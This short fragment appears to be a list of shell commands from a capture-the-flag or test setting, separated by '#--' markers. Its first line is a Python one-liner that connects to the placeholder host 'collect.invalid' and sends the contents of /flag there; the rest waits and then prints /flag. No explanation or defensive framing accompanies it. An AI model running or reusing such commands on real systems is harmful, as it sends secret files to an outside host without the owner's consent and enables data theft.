#--
python3 -c 'import socket; socket.create_connection(("collect.invalid", 443), 5).sendall(open("/flag").read().encode())'
#--
sleep 3
#--
cat /flag
